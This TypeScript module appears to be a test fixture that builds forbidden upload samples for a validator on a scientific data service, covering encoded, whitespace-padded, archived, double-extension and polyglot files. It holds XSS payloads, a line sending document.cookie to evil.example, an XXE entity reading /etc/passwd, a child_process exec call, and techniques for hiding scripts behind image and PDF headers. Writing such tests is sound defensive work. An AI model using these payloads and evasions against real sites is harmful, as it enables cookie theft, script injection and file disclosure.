import { encodings } from './encodings.ts';
import { gz, tarOf, zip } from './packing.ts';
import { bmp, gif, jpeg, pdf, png } from './pictures.ts';

export interface ForbiddenSample {
  title: string;
  name: string;
  content: Buffer;
  /** The expected family; without one any refusal is correct. */
  family?: string;
}

const contents: Record<string, string[]> = {
  html: [
    '<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n',
    '<html lang="en"><head><title>x</title></head></html>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    '<body onload="fetch(\'/jobs\')">ACDEFGHIKLMNPQRSTVWY</body>',
    '<iframe src="javascript:alert(1)"></iframe>',
  ],
  svg: [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "">\n<svg/>',
  ],
  xml: [
    '<?xml version="1.0" encoding="UTF-8"?>\n<datablock><atom id="1"/></datablock>',
    '<cml xmlns="http://www.xml-cml.org/schema"><molecule id="m1"/></cml>',
    '<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>',
    '<rss version="2.0"><channel></channel></rss>',
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  ],
  javascript: [
    'alert(1)',
    'const x = 1;\nconsole.log(x);\n',
    "'use strict';\nvar a = 1;\n",
    '(function () { document.cookie = "a"; })();',
    '!function(){}()',
    "import { x } from './y.js';\nexport default x;\n",
    'window.location="https://evil.example/"+document.cookie',
    '[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][([][(![]+[])[+[]]]+[])[3]]()()()',
    'for(let i=0;i<9;i++)setTimeout(()=>{},i)',
    "fetch('/v1/jobs').then(r=>r.json())",
    'class A extends B { constructor() { super(); } }',
    'eval(atob("YWxlcnQoMSk="))',
    '#!/usr/bin/env node\nrequire("child_process").exec("id")\n',
    'interface A { b: string }\nexport const c: A = { b: "x" };\nexport function d(e: A): string { return e.b; }\n',
    'import React from "react";\nexport default function App() {\n  return <div onClick={() => alert(1)}>x</div>;\n}\n',
  ],
  css: [
    'body { color: red; }\n',
    '@import url("https://evil.example/x.css");\n',
    '@charset "utf-8";\n.a{background:url(x)}',
    '#main, .b > a:hover::before {\n  content: "x";\n  margin: 0 auto;\n}\n\n@media print { .c { display: none } }\n',
    ':root{--x:1px}*{box-sizing:border-box}a{width:var(--x)}',
    '@font-face { font-family: x; src: url(x.woff) }',
  ],
};

const MEGABYTE = 1024 * 1024;

/** Prefixes that do not change how a browser interprets the rest. */
const disguises: Record<string, { prefix: string; families: string[] }> = {
  'white space': { prefix: ' \t\r\n\f\v\u00a0\u2028\uFEFF\n', families: Object.keys(contents) },
  'a megabyte of spaces': { prefix: ' '.repeat(MEGABYTE), families: ['html', 'css'] },
  'many line ends': { prefix: '\r\n'.repeat(20_000), families: ['html', 'javascript', 'css'] },
  NULs: { prefix: '\0\0\0', families: ['html', 'svg', 'javascript'] },
  'a megabyte of NULs': { prefix: '\0'.repeat(MEGABYTE), families: ['svg'] },
  'an HTML comment': { prefix: '<!-- >sp|P0CG48 ubiquitin -->\n', families: ['html', 'svg', 'xml'] },
  'a block comment': { prefix: '/* ATOM      1  N   MET A   1 */\n', families: Object.keys(contents) },
  'a long block comment': { prefix: `/*${'ACDEFGHIK*\n'.repeat(8000)}*/`, families: ['html', 'javascript', 'css'] },
  'line comments': { prefix: '// >sequence\n// <b>\n', families: ['html', 'svg', 'xml', 'javascript'] },
  'hash comments': { prefix: '# data\n# more\n', families: ['html', 'svg', 'xml'] },
  'comment marks in the line': { prefix: '// ', families: ['html-document'] },
};

const names = [
  'data.txt',
  'seq.fasta',
  'table.csv',
  'model.pdb',
  'data.json',
  'picture.png',
  'library.smi',
  'noExtension',
  'tree.nwk',
];

const forbiddenNames =
  'a.html a.HTM a.xhtml a.svg a.SVGZ a.xml a.xsl a.js a.mjs a.cjs a.jsx a.ts a.tsx a.css a.scss data.fasta.html data.csv.js ' +
  'picture.png.svg model.pdb.xml a.html. a.js%20 table.csv.CSS';

/** Returns every family in every disguise. */
export function forbiddenSamples(): ForbiddenSample[] {
  let turn = 0;
  const nextName = () => names[turn++ % names.length]!;
  const all = Object.entries(contents).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));
  const encoded = all.flatMap(({ family, text }) =>
    Object.entries(encodings).map(([encoding, encode]) => ({
      ...{ title: `${brief(text)} in ${encoding}`, name: nextName() },
      ...{ content: encode(text), family },
    })),
  );
  const disguised = all.flatMap(({ family, text }) =>
    Object.entries(disguises)
      .filter(([, { families }]) => families.includes(family))
      .map(([disguise, { prefix }]) => ({
        ...{ title: `${brief(text)} behind ${disguise}`, name: nextName() },
        ...{ content: Buffer.from(prefix + text), family: /HTML comment/.test(disguise) ? 'html' : family },
      })),
  );
  const packed = all.flatMap(({ family, text }) => [
    { title: `${brief(text)} in GZIP`, name: 'data.txt.gz', content: gz(text), family },
    { title: `${brief(text)} in ZIP`, name: 'data.zip', content: zip({ 'ok.txt': 'fine', 'd/x.txt': text }), family },
    { title: `${brief(text)} in TAR in GZIP`, name: 'd.tgz', content: gz(tarOf({ 'x.txt': text })), family },
  ]);
  const named = forbiddenNames.split(' ').map((name) => ({
    ...{ title: `named ${name}`, name: name.replace('%20', ' '), content: Buffer.from('>a\nMKV\n') },
  }));
  return [...encoded, ...disguised, ...packed, ...named, ...polyglots(), ...mixed()];
}

/** Returns samples that are valid in two formats. */
function polyglots(): ForbiddenSample[] {
  const page = '<html><script>alert(1)</script></html>';
  const sample = (title: string, name: string, ...parts: (Buffer | string)[]) => ({
    ...{
      title,
      name,
      content: Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part))),
    },
  });
  return [
    sample('HTML before PDF', 'a.pdf', page, '\n', pdf),
    sample('HTML in the head of a PDF', 'a.pdf', '%PDF-1.4\n', page, pdf),
    sample('HTML behind a PDF', 'a.pdf', pdf, '\n', page),
    sample('HTML far behind a PDF', 'a.pdf', pdf, Buffer.alloc(100_000, 'x'), '\n', page),
    sample('script behind PNG', 'a.png', png, '<script>alert(1)</script>'),
    sample('HTML behind JPEG', 'a.jpg', jpeg, page),
    sample('SVG behind BMP', 'a.bmp', bmp, '<svg onload=alert(1)>'),
    sample('HTML behind GIF', 'a.gif', gif, page),
    sample('GIF as an assignment', 'a.gif', 'GIF89a=1;alert(1)'),
    sample('GIF as a comment', 'a.gif', 'GIF89a/*', Buffer.alloc(100), gif, '*/=1;alert(1)'),
    sample('JPEG as a comment', 'a.jpg', '\xff\xd8\xff\xe0/*', Buffer.alloc(100), '*/=1;alert(1)'),
    sample('BMP as a comment', 'a.bmp', 'BM/*', Buffer.alloc(100), '*/=1;alert(1)'),
    sample('mmCIF as a program', 'a.cif', 'data_x\n_a.b = 1; alert(1)'),
    sample('JSON as a program', 'a.json', '[1,2,3].forEach(alert)'),
    sample('Newick as a program', 'a.nwk', '(alert(1));'),
    sample('table as a program', 'a.csv', '1,2\n'.repeat(30_000), 'alert(1);\n'),
    sample('SMILES name as a program', 'a.smi', 'alert(document.cookie)'),
    sample('whole page behind a line of text', 'a.txt', 'notes\n', page),
    sample('whole page behind a FASTA', 'a.fasta', '>a\nMKV\n', page),
    sample('markup behind a comment mark', 'a.txt', '// <html><script>alert(1)</script>'),
    sample('markup behind a block mark', 'a.txt', '/* <html><script>alert(1)</script> */'),
    sample('tag stretched with NULs', 'a.txt', '<\0s\0\0cript>alert(1)</script>'),
  ];
}

/** Returns samples that are forbidden inside nested archives, by name or content. */
function mixed(): ForbiddenSample[] {
  const page = '<!doctype html><p>';
  return [
    { title: 'page.html in ZIP', name: 'a.zip', content: zip({ 'page.html': 'plain' }) },
    { title: 'page.html.gz', name: 'page.html.gz', content: gz('plain') },
    { title: 'ZIP in ZIP', name: 'a.zip', content: zip({ 'b.zip': zip({ 'x.txt': page }) }) },
    { title: 'GZIP in ZIP', name: 'a.zip', content: zip({ 'b.gz': gz(page) }) },
    { title: 'GZIP in GZIP', name: 'a.gz', content: gz(gz(page)) },
    { title: 'TAR', name: 'a.tar', content: tarOf({ 'a.txt': 'fine', 'b.csv': page }) },
    { title: 'ZIP without its extension', name: 'a.fasta', content: zip({ 'x.txt': page }) },
    { title: 'script in a workbook', name: 'a.xlsx', content: zip({ ...office, 'xl/evil.js': 'alert(1)' }) },
    { title: 'SVG in a document', name: 'a.docx', content: zip({ ...office, 'word/media/a.svg': '<svg/>' }) },
    { title: 'page as a workbook part', name: 'a.xlsx', content: zip({ ...office, 'xl/a.xml': '<html >' }) },
    {
      title: 'XML in a ZIP that is not a package',
      name: 'a.zip',
      content: zip({ 'xl/a.xml': '<?xml version="1.0"?><a/>' }),
    },
  ];
}

export const office = {
  '[Content_Types].xml': '<?xml version="1.0"?><Types/>',
  '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
  'xl/workbook.xml': '<?xml version="1.0"?><workbook/>',
};

function brief(text: string): string {
  return JSON.stringify(text.slice(0, 30));
}
